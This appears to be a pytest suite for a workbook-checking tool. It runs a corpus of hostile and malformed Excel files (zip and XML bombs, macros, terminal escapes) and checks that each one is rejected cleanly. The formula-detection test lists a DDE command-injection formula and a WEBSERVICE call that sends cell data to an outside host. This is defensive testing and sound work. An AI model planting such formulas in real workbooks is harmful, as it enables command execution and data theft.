"""The corpus of bad returned workbooks (tests/corpus/make_corpus.py): every file gets its own
finding code and a Chinese message, never a traceback or an internal error; bombs are refused
in under a second and 100 MB; limits are adjustable through XLTOOLS_LIMITS."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
import tracemalloc
from pathlib import Path

import pytest
from click.testing import CliRunner
from corpus.make_corpus import (
    FORM_SHEET,
    CorpusCase,
    cases,
    edit_parts,
    make_corpus,
    read_parts,
    sheet_part,
)

from xltools.check.inputs import reaches_outside
from xltools.check.report import Finding, Report
from xltools.check.run import check_file
from xltools.cli import main
from xltools.registry import Registry
from xltools.xlsx.limits import (
    DEFAULT_LIMITS,
    ENV_VAR,
    MB,
    Limits,
    LimitsError,
    limits_from_env,
    parse_limits,
)
from xltools.xlsx.reader import WorkbookReadError, read_workbook

CJK = re.compile(r"[\u4e00-\u9fff]")
CASES = cases()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, CorpusCase]]:
    folder = tmp_path_factory.mktemp("corpus")
    made = make_corpus(folder)
    return folder, {c.file: c for c in made}


@pytest.fixture(scope="module")
def registry() -> Registry:
    return Registry.load(None)


def _case(corpus: tuple[Path, dict[str, CorpusCase]], case: CorpusCase) -> Path:
    folder, made = corpus
    if case.file not in made:
        pytest.skip("this file system refuses the file name")
    return folder / case.file


def test_the_corpus_is_broad() -> None:
    assert len(CASES) >= 40
    assert len({c.file for c in CASES}) == len(CASES)
    codes = {c.code for c in CASES}
    for family in ("read-", "tamper-", "parse-", "value-"):
        assert any(code.startswith(family) for code in codes), family
    assert {"not-a-template", "unknown-template", "superseded-version"} <= codes
    assert sum(c.bomb for c in CASES) >= 4


@pytest.mark.parametrize(
    "case", CASES, ids=[c.file.encode("ascii", "replace").decode() for c in CASES]
)
def test_check_names_each_bad_file(
    case: CorpusCase, corpus: tuple[Path, dict[str, CorpusCase]], tmp_path: Path
) -> None:
    path = _case(corpus, case)
    runner = CliRunner()
    # as a reviewer runs it, checked copy included ("--": a file name may start with "-")
    result = runner.invoke(main, ["check", "-o", str(tmp_path), "--", str(path)])
    output = result.output
    assert result.exit_code == case.exit, output
    assert "Traceback" not in output and "internal-error" not in output, output
    assert "\x1b" not in output  # nothing from the file reaches the terminal as a control
    if case.exit == 1:
        lines = [line for line in output.splitlines() if f" {case.code}: " in line]
        assert lines, output
        assert all(CJK.search(line.split(f" {case.code}: ", 1)[1]) for line in lines)
    # and as a program reads it
    result = runner.invoke(main, ["check", "--json", "-o", str(tmp_path / "j"), "--", str(path)])
    assert result.exit_code == case.exit, result.output
    report = json.loads(result.output)
    found = [f for f in report["findings"] if f["code"] == case.code]
    assert found and all(CJK.search(f["message"]) for f in found), report["findings"]
    assert report["valid"] is (case.exit == 0)


def test_a_real_process_on_a_sample(
    corpus: tuple[Path, dict[str, CorpusCase]], tmp_path: Path
) -> None:
    folder, made = corpus
    sample = [
        c
        for c in made.values()
        if c.file
        in (
            "empty.xlsx",
            "zip-bomb.xlsx",
            "xml-bomb-laughs.xlsx",
            "macros.xlsm",
            "terminal-escape.xlsx",
            "-单位 “填报” 'v2' 😀 final.xlsx",
            "junk-rows.xlsx",
        )
        or not c.file.isprintable()
    ]
    assert len(sample) >= 7
    command = [sys.executable, "-c", "from xltools.cli import main; main()", "check", "-o"]
    command += [str(tmp_path), "--", *(str(folder / c.file) for c in sample)]
    root = str(Path(__file__).resolve().parent.parent)  # this checkout, not an installed copy
    path = os.pathsep.join(filter(None, [root, os.environ.get("PYTHONPATH", "")]))
    done = subprocess.run(
        command,
        capture_output=True,
        timeout=120,
        cwd=root,
        env={**os.environ, "LC_ALL": "C.UTF-8", "PYTHONPATH": path},
    )
    output = done.stdout.decode("utf-8", "replace") + done.stderr.decode("utf-8", "replace")
    assert done.returncode == 1, output
    assert "Traceback" not in output and "internal-error" not in output, output
    assert b"\x1b" not in done.stdout + done.stderr
    for case in sample:
        assert f" {case.code}: " in output, case.file
    assert f"共 {len(sample)} 个文件：0 个通过，{len(sample)} 个不通过" in output


@pytest.mark.parametrize("case", [c for c in CASES if c.bomb], ids=lambda c: c.file)
def test_bombs_are_refused_quickly_and_cheaply(
    case: CorpusCase, corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    path = _case(corpus, case)
    # CPU seconds of this process, the better of two runs: wall time on a busy 2-core CI
    # machine reached 1.01 s (best of two) for a refusal that costs 0.75 s of CPU when the
    # machine is free (shared-formula-bomb); a real slowdown fails both
    timings = []
    for _ in range(2):
        started = time.process_time()
        report, _ = check_file(path, registry)
        timings.append(time.process_time() - started)
    elapsed = min(timings)
    tracemalloc.start()
    try:
        check_file(path, registry)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [f.code for f in report.findings] == [case.code]
    assert elapsed < 1.5, elapsed
    assert peak < 100 * MB, peak


# --------------------------------------------------------------------------------------------
# What the fixes found by the corpus must keep doing
# --------------------------------------------------------------------------------------------


def _report(corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry, name: str) -> Report:
    folder, made = corpus
    report, _ = check_file(folder / made[name].file, registry)
    return report


def test_a_renamed_sheet_is_not_a_move(
    corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    """Excel rewrites every defined name when a sheet is renamed; that was reported as rows
    inserted, and the renamed sheet's locked cells went unchecked."""
    for name in ("sheet-renamed-names-follow.xlsx", "sheet-renamed.xlsx"):
        report = _report(corpus, registry, name)
        codes = [f.code for f in report.findings if f.severity == "error"]
        assert codes == ["tamper-sheet-renamed"], (name, codes)
        assert report.total == 100.0  # the form was read where it now is


def test_a_newer_version_is_not_called_superseded(
    corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    newer = _report(corpus, registry, "future-version.xlsx").findings[0].message
    older = _report(corpus, registry, "superseded-version.xlsx").findings[0].message
    assert "还新" in newer and "不再接受" not in newer
    assert "不再接受" in older


def test_control_characters_never_reach_the_terminal_or_the_values(
    corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    report = _report(corpus, registry, "terminal-escape.xlsx")
    assert report.findings[0].code == "unknown-template"
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", report.findings[0].message)
    report = _report(corpus, registry, "control-chars.xlsx")
    assert report.values["unit_name"] == "汨罗市医疗[2J保障局"  # BEL, ESC, ZWSP and RLO removed
    finding = Finding("error", "x", "a\x1b[2Jb\u202e\ud800\r\n\tc", found="\x9b31m")
    assert (finding.message, finding.found) == ("a[2Jb\n\tc", "31m")


def test_a_lone_utf16_half_is_a_replacement_character() -> None:
    """``_xD800_`` decoded to a lone surrogate, which no UTF-8 output can take: exit 2."""
    from xltools.xlsx.reader import _unescape

    assert _unescape("a_xD800_b") == "a\ufffdb"
    assert _unescape("_xD83D__xDE00_") == "\U0001f600"  # an emoji written as two halves
    assert _unescape("_x0041_") == "A"


def test_formulas_that_reach_outside() -> None:
    outside = [
        "'[other.xlsx]Sheet1'!A1",
        "[1]Sheet1!$A$1",
        "SUM([1]S!A1:A2)",
        "'C:\\d\\[b.xlsx]S'!A1",
        "cmd|' /C calc'!A0",
        'WEBSERVICE("http://example.com/?"&A1)',
        "_xlfn.WEBSERVICE(A1)",
    ]
    inside = ["SUM(A1:A3)", "Table1[Amount]", '"[x]"&A1', "'It''s'!A1", 'IF(A1>0,"a|b",1)']
    assert all(reaches_outside(f) for f in outside)
    assert not any(reaches_outside(f) for f in inside)


def test_special_files_are_not_read_whole(tmp_path: Path, registry: Registry) -> None:
    """check_file read the whole file before looking at its size: /dev/zero never ended and a
    huge file filled memory."""
    if os.path.exists("/dev/zero"):
        started = time.perf_counter()
        report, _ = check_file(Path("/dev/zero"), registry)
        assert [f.code for f in report.findings] == ["read-unreadable"]
        assert time.perf_counter() - started < 1
    huge = tmp_path / "huge.xlsx"
    with open(huge, "wb") as handle:
        handle.truncate(DEFAULT_LIMITS.max_file_bytes + 1)  # sparse: no disk used
    tracemalloc.start()
    try:
        report, _ = check_file(huge, registry)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert [f.code for f in report.findings] == ["read-too-large"]
    assert CJK.search(report.findings[0].message) and "XLTOOLS_LIMITS" in report.findings[0].message
    assert peak < 5 * MB
    assert report.bytes == DEFAULT_LIMITS.max_file_bytes + 1


def test_validations_are_matched_without_expanding_them(
    corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    """With the range limit raised, 20,000 validations of 100,000 cells each are checked in
    moments (expanding each into its cells took hours)."""
    folder, _ = corpus
    limits = Limits(max_ranges_per_sheet=1_000_000)
    started = time.perf_counter()
    report, _ = check_file(folder / "validation-bomb.xlsx", registry, limits=limits)
    assert time.perf_counter() - started < 3
    assert "read-too-large" not in {f.code for f in report.findings}


def test_extra_content_only_beyond_the_form(
    corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    report = _report(corpus, registry, "junk-rows.xlsx")
    (finding,) = [f for f in report.findings if f.code == "tamper-extra-content"]
    assert finding.cell == "A101" and finding.found == "150000 个单元格"
    for clean in ("text-in-number.xlsx", "cached-faked.xlsx", "blank-template.xlsx"):
        codes = {f.code for f in _report(corpus, registry, clean).findings}
        assert "tamper-extra-content" not in codes


# --------------------------------------------------------------------------------------------
# Limits
# --------------------------------------------------------------------------------------------


def test_parse_limits() -> None:
    limits = parse_limits("max_file_bytes=100MB, max_ratio=500;max_parts=1_000 max_cells=2k")
    assert limits.max_file_bytes == 100 * MB and limits.max_ratio == 500.0
    assert limits.max_parts == 1000 and limits.max_cells == 2048
    assert limits.max_sheets == DEFAULT_LIMITS.max_sheets
    assert parse_limits("") == DEFAULT_LIMITS
    assert parse_limits("max_part_inflated_bytes=1.5g").max_part_inflated_bytes == 1536 * MB
    for bad in (
        "max_file=1",
        "max_parts",
        "max_parts=1.5",
        "max_parts=abc",
        "max_ratio=0",
        "max_parts=-1",
        "max_parts=1TB",
    ):
        with pytest.raises(LimitsError) as caught:
            parse_limits(bad)
        assert CJK.search(str(caught.value)), bad
    assert limits_from_env({}) == DEFAULT_LIMITS
    assert limits_from_env({ENV_VAR: " "}) == DEFAULT_LIMITS
    assert limits_from_env({ENV_VAR: "max_sheets=3"}).max_sheets == 3


def test_limits_from_the_environment(
    corpus: tuple[Path, dict[str, CorpusCase]], monkeypatch: pytest.MonkeyPatch, registry: Registry
) -> None:
    folder, _ = corpus
    path = folder / "text-in-number.xlsx"
    runner = CliRunner()
    result = runner.invoke(
        main, ["check", "--no-copy", str(path)], env={ENV_VAR: "max_file_bytes=1k"}
    )
    assert result.exit_code == 1 and " read-too-large: " in result.output, result.output
    result = runner.invoke(main, ["check", "--no-copy", str(path)], env={ENV_VAR: "max_file=1k"})
    assert result.exit_code == 2 and "usage-bad-limits" in result.output, result.output
    assert "Traceback" not in result.output
    out = folder.parent / "merged.xlsx"
    result = runner.invoke(main, ["merge", str(path), "-o", str(out)], env={ENV_VAR: "max_file=1k"})
    assert result.exit_code == 2 and "usage-bad-limits" in result.output, result.output
    assert not out.exists()
    result = runner.invoke(
        main, ["merge", str(path), "-o", str(out)], env={ENV_VAR: "max_file_bytes=1k"}
    )
    assert result.exit_code == 1 and "read-too-large" in result.output, result.output
    assert "超出读取上限" in result.output
    # check_file without limits reads the variable too (merge calls it that way)
    monkeypatch.setenv(ENV_VAR, "max_cells=100")
    report, _ = check_file(path, registry)
    assert [f.code for f in report.findings] == ["read-too-large"]
    monkeypatch.setenv(ENV_VAR, "max_sheets=2")
    assert [f.code for f in check_file(path, registry)[0].findings] == ["read-too-large"]


@pytest.mark.parametrize(
    ("setting", "detail"),
    [
        ("max_cells=500", "单元格合计"),
        ("max_cells_per_sheet=500", "的单元格超过"),
        ("max_shared_strings=10", "共享字符串"),
        ("max_ranges_per_sheet=50", "数据验证区域与合并单元格"),
        ("max_defined_names=50", "定义名称"),
        ("max_sheets=2", "工作表超过"),
        ("max_parts=5", "部件"),
    ],
)
def test_every_count_limit_is_a_read_too_large(
    corpus: tuple[Path, dict[str, CorpusCase]], setting: str, detail: str
) -> None:
    folder, _ = corpus
    data = (folder / "blank-template.xlsx").read_bytes()  # XlsxWriter: shared strings
    with pytest.raises(WorkbookReadError) as caught:
        read_workbook(data, parse_limits(setting))
    assert caught.value.code == "read-too-large" and detail in caught.value.message
    read_workbook(data)  # and the defaults take it


def test_shared_formula_text_is_budgeted(
    tmp_path: Path, corpus: tuple[Path, dict[str, CorpusCase]]
) -> None:
    folder, _ = corpus
    target = tmp_path / "shared.xlsx"

    def change(parts: dict[str, bytes]) -> None:
        name = sheet_part(parts, FORM_SHEET)
        rows = (
            '<row r="100"><c r="Z100"><f t="shared" ref="Z100:Z110" si="9">A1+A2+A3</f></c></row>'
        )
        rows += "".join(
            f'<row r="{r}"><c r="Z{r}"><f t="shared" si="9"/></c></row>' for r in range(101, 111)
        )
        parts[name] = parts[name].replace(b"</sheetData>", rows.encode() + b"</sheetData>", 1)

    edit_parts(folder / "text-in-number.xlsx", target, change)
    raw = read_workbook(target)
    cell = raw.cell(FORM_SHEET, "Z105")
    assert cell is not None and cell.formula == "A6+A7+A8"
    with pytest.raises(WorkbookReadError) as caught:
        read_workbook(target, Limits(max_shared_formula_chars=50))
    assert caught.value.code == "read-too-large" and "共享公式" in caught.value.message
    assert read_parts(target)  # still a valid package


def test_damaged_metadata_is_one_finding(
    corpus: tuple[Path, dict[str, CorpusCase]], registry: Registry
) -> None:
    codes = [f.code for f in _report(corpus, registry, "prefill-not-an-object.xlsx").findings]
    assert codes.count("tamper-meta-changed") == 1, codes


def test_merge_accounts_for_every_bad_file(
    corpus: tuple[Path, dict[str, CorpusCase]], tmp_path: Path
) -> None:
    """The whole corpus in one merge: every file is accounted for, and (with ``--strict``, as a
    bureau that accepts only clean returns runs it) none with an error is accepted: each
    names its corpus code as its reason or among its findings."""
    from xltools.filenames import readable
    from xltools.merge import merge

    folder, made = corpus
    with merge([folder], strict=True, workers=1) as result:
        assert result.counts.inputs == len(list(folder.iterdir()))
        status = dict(zip(result.manifest["file"], result.manifest["status"], strict=True))
        reason = dict(zip(result.manifest["file"], result.manifest["code"], strict=True))
        findings = result.findings.groupby("file")["code"].agg(set).to_dict()
    for case in made.values():
        name = readable(str(folder / case.file))
        assert name in status, case.file
        if case.exit == 0:
            continue
        assert status[name] != "采纳", case.file
        codes = {reason[name]} | findings.get(name, set())
        assert case.code in codes, (case.file, codes)
